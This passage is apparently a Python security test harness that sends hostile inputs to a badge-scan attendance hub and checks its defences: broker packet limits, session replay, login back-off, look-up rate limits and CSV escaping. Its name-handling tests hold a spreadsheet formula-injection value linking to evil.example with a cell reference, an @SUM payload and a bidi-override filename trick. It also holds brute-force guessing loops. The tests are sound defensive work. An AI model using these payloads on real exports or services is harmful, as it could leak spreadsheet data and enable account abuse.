    tried = f"{MAX_PACKET_SIZE // KB + 4} KB scan (over the broker's max_packet_size)"
    expected = "refused by the broker; hub unaffected"
    with table.probe(tried, expected):
        big = publisher(int(site.hub.broker_url.rsplit(":", 1)[1]), "big")
        body = {**site.scan("door-1", site.badges["ada"]), "pad": "x" * (MAX_PACKET_SIZE + 4 * KB)}
        big.publish(topics.scan("door-1"), json.dumps(body).encode(), qos=1)
        wait_for(lambda: not big.is_connected(), "the sender cut off", timeout=10)
        big.loop_stop()
        said = answer(site, body["id"], timeout=3)
        after = site.scan("door-1", site.blanks[44][0])
        site.send(topics.scan("door-1"), json.dumps(after).encode())
        table.check(tried, expected, f"Mosquitto disconnected the sender; hub: {said}; next good scan: "
                    f"{answer(site, after['id'])}", said == "no answer" and site.hub.proc.poll() is None)

    tried = "the broker configuration the project ships (turnout-hub broker-config)"
    expected = "no anonymous clients; max_packet_size and in-flight/queued windows set"
    with table.probe(tried, expected):
        out = site.db.parent / "broker-config"
        cli(site.db.parent / "broker-config.sqlite", "broker-config", "--dir", str(out))
        conf = dict(line.split(None, 1) for line in (out / "mosquitto.conf").read_text().splitlines()
                    if line.strip() and not line.startswith("#") and " " in line)
        keys = ("allow_anonymous", "max_packet_size", "max_inflight_messages", "max_queued_messages")
        table.check(tried, expected, ", ".join(f"{k} {conf.get(k)}" for k in keys),
                    conf.get("allow_anonymous") == "false" and all(conf.get(k, "0").isdigit() and int(conf[k]) > 0
                                                                  for k in keys[1:]))


# --- web: privacy and sessions over HTTP ---------------------------------------------------------

def form_token(page: httpx.Response) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)


def post_form(client: httpx.Client, path: str, data: dict, address: str = "198.51.100.1",
              action: str | None = None) -> httpx.Response:
    """Fetch the form (for its token), post it, as a browser at ``address`` behind the proxy."""
    headers = {"X-Forwarded-For": address}
    page = client.get(path, headers=headers)
    return client.post(action or path, data={"csrf_token": form_token(page), **data}, headers=headers)


def signed_in(site: HubSite, address: str = "198.51.100.50") -> httpx.Client:
    client = httpx.Client(base_url=site.hub.api.removesuffix("/api/v1"), timeout=30)
    response = post_form(client, "/admin/login", {"password": PASSWORD}, address)
    if response.status_code != 303:
        raise AssertionError(f"sign-in answered {response.status_code}")
    return client


def web_sessions(table: Table, site: HubSite) -> None:
    web = site.hub.api.removesuffix("/api/v1")
    tried, expected = "copied session cookie replayed after signing out", "refused (sent to sign in)"
    with table.probe(tried, expected):
        client = signed_in(site)
        copied = client.cookies["turnout_session"]
        page = client.get("/admin")
        client.post("/admin/logout", data={"csrf_token": form_token(page)})
        replay = httpx.get(web + "/admin", cookies={"turnout_session": copied}, timeout=30)
        table.check(tried, expected, f"before sign-out /admin {page.status_code}; replayed after: "
                    f"{replay.status_code} to {replay.headers.get('location')}", page.status_code == 200 and replay.status_code == 303)

    tried = "session in daily use but begun 12 h ago (its row aged in the hub's database)"
    expected = "ends at its absolute lifetime, however busy"
    with table.probe(tried, expected):
        client = signed_in(site)
        fresh = client.get("/admin").status_code
        db = sqlite3.connect(site.db, timeout=10)
        with db:
            db.execute("update sessions set created_at = created_at - ?, last_seen = ?",
                       (12 * 3600 + 5, time.time()))
        db.close()
        aged = client.get("/admin")
        table.check(tried, expected, f"/admin {fresh} while fresh; {aged.status_code} to "
                    f"{aged.headers.get('location')} once 12 h old (used a moment ago)", fresh == 200 and aged.status_code == 303)

    tried = "admin password guessing from one address"
    expected = "back-off doubling (429 + Retry-After), another address and the right password still get in"
    with table.probe(tried, expected):
        client = httpx.Client(base_url=web, timeout=30)
        codes, waits = [], []
        for _ in range(5):
            codes.append(post_form(client, "/admin/login", {"password": "guess"}, "203.0.113.9").status_code)
        for _ in range(3):
            refused = post_form(client, "/admin/login", {"password": "guess"}, "203.0.113.9")
            codes.append(refused.status_code)
            wait = int(refused.headers.get("retry-after", 0))
            waits.append(wait)
            time.sleep(wait)
            codes.append(post_form(client, "/admin/login", {"password": "guess"}, "203.0.113.9").status_code)
        other = post_form(httpx.Client(base_url=web, timeout=30), "/admin/login", {"password": PASSWORD}, "203.0.113.10")
        right = post_form(client, "/admin/login", {"password": PASSWORD}, "203.0.113.9")
        wait = int(right.headers.get("retry-after", 0))
        time.sleep(wait)
        later = post_form(client, "/admin/login", {"password": PASSWORD}, "203.0.113.9")
        table.check(tried, expected, f"answers {codes}; waits {waits} s; other address with the password: "
                    f"{other.status_code}; right password: {right.status_code}, after {wait} s: {later.status_code}",
                    codes[:5] == [401] * 5 and codes[5] == 429 and waits == [1, 2, 4] and other.status_code == 303
                    and later.status_code == 303)


TOO_MANY = "tried too many times"


def lookup(address: str, badge: str, email: str, web: str) -> httpx.Response:
    with httpx.Client(base_url=web, timeout=30) as client:
        return post_form(client, "/privacy/download", {"code": badge, "email": email}, address)


def verdict(response: httpx.Response) -> str:
    if response.status_code == 200 and "json" in response.headers.get("content-type", ""):
        return "200 data"
    return f"{response.status_code} {'too many' if TOO_MANY in response.text else 'no match'}"


def web_privacy(table: Table, site: HubSite) -> None:
    web = site.hub.api.removesuffix("/api/v1")
    ada, mallory = site.badges["ada"], site.badges["mallory"]
    others = [code for code, _ in site.blanks]  # badges nobody guesses at twice here
    tried = "privacy look-up: 10 wrong pairs from one address (10 different badges), then a right pair"
    expected = "blocked per address after 10, even the right pair; other addresses unaffected"
    with table.probe(tried, expected):
        answers = [verdict(lookup("192.0.2.20", others[10 + n], f"guess{n}@example.org", web)) for n in range(10)]
        right = verdict(lookup("192.0.2.20", ada, "ada@example.org", web))
        elsewhere = verdict(lookup("192.0.2.21", ada, "ada@example.org", web))
        table.check(tried, expected, f"{answers.count('400 no match')}x 400 no match; then the right pair: {right}; "
                    f"from another address: {elsewhere}",
                    answers == ["400 no match"] * 10 and "too many" in right and elsewhere == "200 data")

    tried = "privacy look-up: one badge guessed from 11 addresses, then its owner from a new one"
    expected = "blocked per badge after 10, whatever the address"
    with table.probe(tried, expected):
        answers = [verdict(lookup(f"192.0.2.{100 + n}", mallory, f"g{n}@example.org", web)) for n in range(11)]
        owner = verdict(lookup("192.0.2.200", mallory, "mallory@example.org", web))
        table.check(tried, expected, f"{answers.count('400 no match')}x 400 no match, then {answers[10]}; owner: {owner}",
                    answers[:10] == ["400 no match"] * 10 and "too many" in answers[10] and "too many" in owner)

    tried = "privacy look-up: 9 wrong guesses, own badge looked up, 2 more guesses (one address)"
    expected = "own look-up works and does not reset the count: the 11th try is blocked"
    with table.probe(tried, expected):
        address = "192.0.2.30"
        first = [verdict(lookup(address, others[20 + n], f"x{n}@example.org", web)) for n in range(9)]
        own = verdict(lookup(address, ada, "ada@example.org", web))
        after = [verdict(lookup(address, others[29 + n], f"y{n}@example.org", web)) for n in range(2)]
        table.check(tried, expected, f"{first.count('400 no match')}x 400 no match; own look-up: {own}; then {after}",
                    own == "200 data" and "too many" in after[-1])


def claim(address: str, code: str, claim_code: str | None, web: str) -> httpx.Response:
    data = {"code": code, "name": "Claimer", "consent": "initial"}
    if claim_code is not None:
        data["claim_code"] = claim_code
    with httpx.Client(base_url=web, timeout=30) as client:
        return post_form(client, "/claim", data, address)


def web_claims(table: Table, site: HubSite) -> None:
    web = site.hub.api.removesuffix("/api/v1")
    blanks = site.blanks
    tried, expected = "claim a blank badge without its claim code", "refused, asks for the code"
    with table.probe(tried, expected):
        response = claim("192.0.2.40", blanks[1][0], None, web)
        table.check(tried, expected, f"{response.status_code}, claimed: {'yes' if response.status_code == 303 else 'no'}",
                    response.status_code == 400)

    tried = "claim 31 sequential blank badges from one address with made-up claim codes"
    expected = "none claimed; blocked (429) after 30 wrong tries"
    with table.probe(tried, expected):
        codes = [claim("192.0.2.41", blanks[2 + n][0], "ABC-DEF", web).status_code for n in range(31)]
        table.check(tried, expected, f"{codes.count(400)}x 400, then {codes[30]}; none claimed",
                    codes[:30] == [400] * 30 and codes[30] == 429)

    tried = "one blank badge's claim code guessed from 11 addresses"
    expected = "blocked per badge after 10"
    with table.probe(tried, expected):
        codes = [claim(f"192.0.2.{50 + n}", blanks[40][0], "ABC-DEF", web).status_code for n in range(11)]
        right = claim("192.0.2.90", blanks[40][0], blanks[40][1], web).status_code
        table.check(tried, expected, f"{codes.count(400)}x 400, then {codes[10]}; even the right code then: {right}",
                    codes[10] == 429 and right == 429)

    tried, expected = "claim with the printed claim code (control)", "claimed"
    with table.probe(tried, expected):
        response = claim("192.0.2.91", blanks[41][0], blanks[41][1].lower().replace("-", " "), web)
        table.check(tried, expected, f"{response.status_code} to {response.headers.get('location')}", response.status_code == 303)


def web_names(table: Table, site: HubSite) -> None:
    web = site.hub.api.removesuffix("/api/v1")
    hostile = {
        "bidi override + zero-width in a name": "Eve\u202egnp.exe\u200b\u2066 Smith",
        "formula name =HYPERLINK(…)": '=HYPERLINK("https://evil.example/?"&A1,"Click me")',
    }
    registered = {}
    for tried, name in hostile.items():
        with httpx.Client(base_url=web, timeout=30) as client:
            response = post_form(client, "/register", {"name": name, "consent": "full", "organisation": "@SUM(1+1)"},
                                 "192.0.2.150")
        registered[tried] = re.search(r"/badges/([^?]+)", response.headers.get("location", "")).group(1)
    registered["hidden"] = cli(site.db, "person", "add", "Hidden Hepzibah", "--consent", "hidden").stdout.split()[-1]
    for badge in registered.values():
        body = site.scan("door-1", badge)
        site.send(site.topics.scan("door-1"), json.dumps(body).encode())
        answer(site, body["id"])
    time.sleep(6)  # the public statistics are rebuilt every few seconds

    tried = "name with bidi override (U+202E), zero-width space, isolate"
    expected = "invisible formatting stripped on input"
    with table.probe(tried, expected):
        shown = httpx.get(f"{site.hub.api}/people/{registered['bidi override + zero-width in a name']}", timeout=10).json()
        invisible = [f"U+{ord(c):04X}" for c in shown["name"] if c in "\u202e\u200b\u2066\u2069"]
        table.check(tried, expected, f"stored and shown as {shown['name']!r}", not invisible and shown["name"].startswith("Eve"))

    tried = "name =HYPERLINK(\"https://evil…\",\"Click me\") in the open-data participation CSV"
    expected = "cell starts with ' (not run by a spreadsheet)"
    with table.probe(tried, expected):
        text = httpx.get(web + "/data/v1/participation.csv", timeout=30).text
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row if "HYPERLINK" in c]
        table.check(tried, expected, f"cell written as {cells[0][:40] if cells else '(not listed)'}…",
                    bool(cells) and all(c.startswith("'") for c in cells))

    tried = "a person who chose not to be shown, scanned at today's event: /api/v1/events/<event>"
    expected = "counted, not listed"
    with table.probe(tried, expected):
        text = httpx.get(f"{site.hub.api}/events/{site.event}", timeout=10).text
        roll = json.loads(text)
        listed = "Hepzibah" in text or registered["hidden"] in text
        table.check(tried, expected, f"{len(roll.get('present', roll.get('people', [])))} listed, not_shown "
                    f"{roll.get('not_shown')}; name or badge in the answer: {'YES' if listed else 'no'}",
                    not listed and roll.get("not_shown", 0) >= 1)

    tried = "organisation @SUM(1+1) in the admin people export"
    expected = "cell starts with '"
    with table.probe(tried, expected):
        client = signed_in(site, "198.51.100.60")
        text = client.get("/admin/export/people.csv").text
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row if "SUM(1+1)" in c]
        table.check(tried, expected, f"cells written as {sorted(set(cells))}", bool(cells) and all(c.startswith("'") for c in cells))


def web_quarantine_and_api(table: Table, site: HubSite) -> None:
    tried = "the admin quarantine page after the 2,000-message junk flood from flood-1"
    expected = "counters shown; only a few kept whole, the rest cut short or only counted"
    with table.probe(tried, expected):
        page = signed_in(site, "198.51.100.62").get("/admin/quarantine").text
        row = re.search(r"<tr><td>flood-1</td>(.*?)</tr>", page, re.S)
        numbers = [int(n.replace(",", "")) for n in re.findall(r">([\d,]+)<", row.group(1))] if row else []
        table.check(tried, expected, "refused, kept whole, cut short, only counted: " + ", ".join(map(str, numbers)),
                    len(numbers) == 4 and numbers[0] >= 2000 and numbers[1] <= 20 and numbers[1] + numbers[2] <= 200)

    tried = f"quarantined scan (unknown event) moved to today's event, hub on base topic {BASE_TOPIC}"
    expected = "counted at the event"
    with table.probe(tried, expected):
        badge = cli(site.db, "person", "add", "Quinn Q", "--consent", "full").stdout.split()[-1]
        body = site.scan("door-1", badge, event="no-such-event")
        site.send(site.topics.scan("door-1"), json.dumps(body).encode())
        refused = answer(site, body["id"])
        client = signed_in(site, "198.51.100.61")
        page = client.get("/admin/quarantine")
        items = re.findall(r"/admin/quarantine/(\d+)/reassign", page.text)
        item = max(items, key=int)
        done = client.post(f"/admin/quarantine/{item}/reassign",
                           data={"csrf_token": form_token(page), "event": site.event}, follow_redirects=True)
        said = re.search(r"Scan now counts at [^<]*", done.text)
        time.sleep(6)
        attended = httpx.get(f"{site.hub.api}/people/{badge}", timeout=10).json().get("attended")
        table.check(tried, expected, f"first {refused}; after moving: \"{said.group(0) if said else done.status_code}\"; "
                    f"events attended {attended}", bool(said) and "accepted" in said.group(0) and attended == 1)

    for limit in ("1000000000", "-1", "1e9", "abc"):
        tried, expected = f"/api/v1/leaderboard?limit={limit}", "a clear 400, not a huge answer or a 5xx"
        with table.probe(tried, expected):
            response = httpx.get(f"{site.hub.api}/leaderboard", params={"limit": limit}, timeout=30)
            detail = response.text[:90].replace("\n", " ")
            table.check(tried, expected, f"{response.status_code}: {detail}", response.status_code == 400)
    tried, expected = "/api/v1/leaderboard?limit=<the cap> (control)", "200, at most the cap"
    with table.probe(tried, expected):
        from hub.api import MAX_LEADERBOARD_ROWS
        response = httpx.get(f"{site.hub.api}/leaderboard", params={"limit": MAX_LEADERBOARD_ROWS}, timeout=30)
        table.check(f"/api/v1/leaderboard?limit={MAX_LEADERBOARD_ROWS} (the cap)", expected,
                    f"{response.status_code}, {len(response.json())} rows", response.status_code == 200)

    tried, expected = "300 API requests at once from one address", "429 past the burst, with Retry-After"
    with table.probe(tried, expected):
        counts: dict[int, int] = defaultdict(int)
        retry = None
        with httpx.Client(timeout=30) as client:
            for _ in range(300):
                response = client.get(f"{site.hub.api}/events", headers={"X-Forwarded-For": "192.0.2.250"})
                counts[response.status_code] += 1
                retry = retry or response.headers.get("retry-after")
        table.check(tried, expected, f"{dict(counts)}; Retry-After {retry}", counts.get(429, 0) > 0 and not any(c >= 500 for c in counts))


# --- camera ------------------------------------------------------------------------------------------

def camera(table: Table, frames: int) -> None:
    import numpy as np

    from bench.decode_frames import HARD_BADGES
    from kiosk.scanner.decode import DECODERS
    from tests.kiosk.badge_images import badge_frame

    rng = np.random.default_rng(10)
    plan = [("upside-down", None, frames * 2), ("upside-down", HARD_BADGES, frames), ("rotation", None, frames),
            ("perspective", None, frames)]
    for variant, texts, count in plan:
        label = f"Code 128 {variant} on a busy background" if variant == "upside-down" else f"Code 128 {variant}"
        label += f" ({'/'.join(texts)}: the issue's wrong read and two like it)" if texts else ", random badges"
        tried = f"{count} frames: {label}"
        expected = "0 wrong reads from the chain; reads at least every frame either decoder alone reads cleanly"
        with table.probe(tried, expected):
            wrong = defaultdict(int)
            ok = defaultdict(int)
            missed = 0
            examples = []
            for i in range(count):
                text = texts[i % len(texts)] if texts else badge_code(int(rng.integers(1, 100_000)))
                frame = badge_frame(text, "code128", variant, rng)
                clean = {}
                for name in ("pyzbar", "zxing-cpp", "chain"):
                    codes = DECODERS[name](frame.image)
                    bad = [c.text for c in codes if c.text != text]
                    wrong[name] += bool(bad)
                    clean[name] = any(c.text == text for c in codes) and not bad
                    ok[name] += clean[name]
                    if bad and name == "chain":
                        examples.append(f"{text}->{bad[0]!r}")
                missed += (clean["pyzbar"] or clean["zxing-cpp"]) and not clean["chain"]
            table.check(tried, expected, f"chain {ok['chain']}/{count} read, {wrong['chain']} wrong{' ' + ', '.join(examples[:2]) if examples else ''}, "
                        f"{missed} missed (pyzbar {ok['pyzbar']} read/{wrong['pyzbar']} wrong, zxing-cpp "
                        f"{ok['zxing-cpp']}/{wrong['zxing-cpp']})", wrong["chain"] == 0 and missed == 0)


# --- the run -------------------------------------------------------------------------------------------

AREAS = ("kiosk", "cards", "hub", "web", "camera")


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--only", default=",".join(AREAS), help=f"comma-separated areas ({', '.join(AREAS)})")
    parser.add_argument("--frames", type=int, default=30, help="camera frames per row (upside-down: twice)")
    args = parser.parse_args()
    areas = set(args.only.split(","))
    started = time.monotonic()
    work = Path(tempfile.mkdtemp(prefix="turnout-hostile-"))
    broker = Broker(work / "mosquitto").start()
    tables: list[Table] = []
    site = None
    try:
        if "kiosk" in areas:
            tables.append(Table("Kiosk: messages from the broker (real kiosk process, real Mosquitto)"))
            kiosk_link(tables[-1], broker, work)
            tables.append(Table("Kiosk: storage failures"))
            kiosk_storage(tables[-1], broker, work)
        if "cards" in areas:
            tables.append(Table("Kiosk: set-up and wi-fi cards"))
            cards(tables[-1], broker, work)
        if areas & {"hub", "web"}:
            site = start_hub(broker, work)
        if "hub" in areas:
            tables.append(Table(f"Hub: MQTT floods and malformed scans (turnout-hub serve, base topic {BASE_TOPIC})"))
            hub_floods(tables[-1], site)
        if "web" in areas:
            tables.append(Table("Web: sessions and sign-in (over HTTP, addresses via the trusted proxy header)"))
            web_sessions(tables[-1], site)
            tables.append(Table("Web: privacy look-ups and claims"))
            web_privacy(tables[-1], site)
            web_claims(tables[-1], site)
            tables.append(Table("Web: names, open data, quarantine, API limits"))
            web_names(tables[-1], site)
            web_quarantine_and_api(tables[-1], site)
        if site is not None:
            with tables[-1].probe("the hub process after everything above", "still running, descriptors flat"):
                (fds0, rss0), (fds1, rss1) = site.started_with, hub_usage(site.hub)
                tables[-1].check("the hub after everything above (hub and intake processes)",
                                 "still running; open descriptors flat (a leak adds 2 per statistics rebuild)",
                                 f"running; open descriptors {fds0} -> {fds1}; resident {rss0:.0f} -> {rss1:.0f} MB",
                                 site.hub.proc.poll() is None and fds1 - fds0 <= 10)
        if "camera" in areas:
            tables.append(Table("Camera: Code 128 badges upside down and tilted (generated 640x480 frames)"))
            camera(tables[-1], args.frames)
    finally:
        for kiosk in STARTED:
            close_kiosk(kiosk)
        if site is not None:
            site.acks.client.loop_stop()
            site.sender.loop_stop()
            site.hub.stop()
        broker.stop()
    failed = sum(not r.ok for t in tables for r in t.rows)
    total = sum(len(t.rows) for t in tables)
    print(f"## Hostile inputs: {total - failed}/{total} as expected ({time.monotonic() - started:.0f} s)\n")
    for table in tables:
        print(table.markdown() + "\n")
    print(f"Work files (logs, databases): {work}")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
